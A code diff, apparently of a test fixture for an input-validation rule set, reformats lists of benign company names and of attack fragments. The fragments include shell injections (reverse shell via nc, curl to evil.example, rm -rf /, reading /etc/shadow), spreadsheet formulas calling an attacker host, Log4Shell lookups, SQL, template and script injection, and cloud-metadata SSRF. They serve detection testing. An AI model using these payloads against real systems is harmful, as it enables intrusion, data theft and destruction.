@@ -9,7 +9,7 @@ from .documents import commented, said
 
 WRITTEN_BY_PEOPLE = (
     "O'Brien & Söhne GmbH",
-    "O’Brien & Sons",  # noqa: RUF001
+    "O’Brien & Sons",
     "Invoice 42; delivery 7",
     "Invoice 42 - thanks",
     "50 % off -- thanks",
@@ -69,10 +69,10 @@ WRITTEN_BY_PEOPLE = (
     "Łódź Sp. z o.o.",
     "Ångström AB",
     "Ελληνική Τράπεζα",
-    "Газпром банк",  # noqa: RUF001
-    "ООО Ромашка",  # noqa: RUF001
-    "株式会社ＡＢＣ",  # noqa: RUF001
-    "中国银行（香港）",  # noqa: RUF001
+    "Газпром банк",
+    "ООО Ромашка",
+    "株式会社ＡＢＣ",
+    "中国银行（香港）",
     "شركة النور للتجارة",
     "שלום בע״מ",
     "महिंद्रा एंड महिंद्रा",
@@ -112,7 +112,7 @@ WRITTEN_BY_PEOPLE = (
     "SEPA CREDIT TRANSFER ABCDEFGHIJKLMNOPQRSTUVWXYZ 0123456789 / - ? : ( ) . , ' +",
     "R1: 100; R2: 200",
     "50's music",
-    "Jean-d'Arc \"SARL\"",
+    'Jean-d\'Arc "SARL"',
     'Firma "Sonne" & "Mond"',
     "open",
     "close #12345",
@@ -138,13 +138,13 @@ FRAGMENTS = {
         " =1+1",
         "\t=1+1",
         "=A1",
-        "＝1+1",  # noqa: RUF001
+        "＝1+1",
         "-SUM(A1:A9)",
         '=IMPORTXML("http://evil.example","//a")',
         "+1+1",
         '=WEBSERVICE("http://evil.example")',
         "%3D1+1",
-        "DDE (\"cmd\";\"/C calc\";\"x\")=cmd|'/c calc'!A0",
+        'DDE ("cmd";"/C calc";"x")=cmd|\'/c calc\'!A0',
     ),
     "sql": (
         "' OR '1'='1",
@@ -187,8 +187,8 @@ FRAGMENTS = {
         "DROP TABLE users",
         "%27%20OR%20%271%27=%271",
         "%2527%2520OR%25201=1--",
-        "’ OR ’1’=’1",  # noqa: RUF001
-        "＇ OR 1=1--",  # noqa: RUF001
+        "’ OR ’1’=’1",
+        "＇ OR 1=1--",
         "&#39; OR &#39;1&#39;=&#39;1",
         "\\u0027 OR 1=1--",
         "' OR 1=1 LIMIT 1 -- -+",
@@ -206,11 +206,20 @@ FRAGMENTS = {
         "jndi:ldap://evil.example/a",
         "${env:HOME}",
         "${7*7}",
-        "＄｛jndi:ldap://x/a｝",  # noqa: RUF001
+        "＄｛jndi:ldap://x/a｝",
         "&#36;{jndi:dns://x}",
         "\\u0024{jndi:ldap://x/a}",
     ),
-    "template": ("{{7*7}}", "{{config.items()}}", "{% import os %}", "<%= 7*7 %>", "#{7*7}", "*{7*7}", "$(id)", "x.__class__"),
+    "template": (
+        "{{7*7}}",
+        "{{config.items()}}",
+        "{% import os %}",
+        "<%= 7*7 %>",
+        "#{7*7}",
+        "*{7*7}",
+        "$(id)",
+        "x.__class__",
+    ),
     "fix-fragment": (
         "8=FIX.4.4|9=100|35=D|49=A",
         "8=FIX.4.4^A9=65^A35=D^A",
@@ -240,7 +249,7 @@ FRAGMENTS = {
         "<svg/onload=alert(1)>",
         "javascript:alert(1)",
         "<iframe src='//evil'>",
-        "＜script＞",  # noqa: RUF001
+        "＜script＞",
         "%3Cscript%3E",
         "&lt;script&gt;",
         "\\u003cscript\\u003e",
@@ -248,7 +257,7 @@ FRAGMENTS = {
         "</Ustrd></RmtInf><CdtTrfTxInf>",
         "<Cdtr><Nm>Evil</Nm></Cdtr>",
         "<!DOCTYPE x>",
-        "<!--#exec cmd=\"ls\"-->",
+        '<!--#exec cmd="ls"-->',
         "<?php system('id'); ?>",
         "]]>",
         '"><b onmouseover=alert(1)>',
@@ -266,17 +275,40 @@ FRAGMENTS = {
         "http://169.254.169.254/latest/meta-data",
         "\\\\evil\\share\\x",
     ),
-    "command": ("; rm -rf /", "| nc -e /bin/sh", "&& curl http://evil.example/x", "`id`", "() { :;}; echo", "; cat /etc/shadow", "x|bash"),
+    "command": (
+        "; rm -rf /",
+        "| nc -e /bin/sh",
+        "&& curl http://evil.example/x",
+        "`id`",
+        "() { :;}; echo",
+        "; cat /etc/shadow",
+        "x|bash",
+    ),
     "query-operator": ('{"$ne": null}', '{"$gt":""}', "*)(uid=*))(|(uid=*", "admin)(&)(|(a=b"),
     "object": ('O:8:"stdClass":0:{}', '","amount":"9', "rO0ABXNyABE="),
     "format": ("%n%n%n%n", "%s%s%s%s", "%x%x%x%x"),
     "header": ("x\r\nSet-Cookie: a=b", "x%0d%0aLocation: http://evil", "x%00y"),
     "utf-7": ("+ADw-script+AD4-",),
-    "homoglyph": ("АCME Trading", "Wіdget GmbH", "АСМЕ Trading Ltd", "pаypal", "Αcme"),  # noqa: RUF001
-    "compatibility-character": ("𝐀𝐂𝐌𝐄 Ltd", "ＡＣＭＥ Ltd", "１０００", "Ⓐcme"),  # noqa: RUF001
+    "homoglyph": ("АCME Trading", "Wіdget GmbH", "АСМЕ Trading Ltd", "pаypal", "Αcme"),
+    "compatibility-character": ("𝐀𝐂𝐌𝐄 Ltd", "ＡＣＭＥ Ltd", "１０００", "Ⓐcme"),
     "combining-marks": ("a\u0301\u0301\u0301\u0301\u0301",),
 }
-ANY_RULE = {"fix-fragment", "sql", "path", "command", "script", "template", "formula", "lookup", "object", "mt-fragment", "query-operator", "header", "utf-7", "escaped-character"}
+ANY_RULE = {
+    "fix-fragment",
+    "sql",
+    "path",
+    "command",
+    "script",
+    "template",
+    "formula",
+    "lookup",
+    "object",
+    "mt-fragment",
+    "query-operator",
+    "header",
+    "utf-7",
+    "escaped-character",
+}
 """Some fragments speak two languages; which one is named is of no account."""
 
 
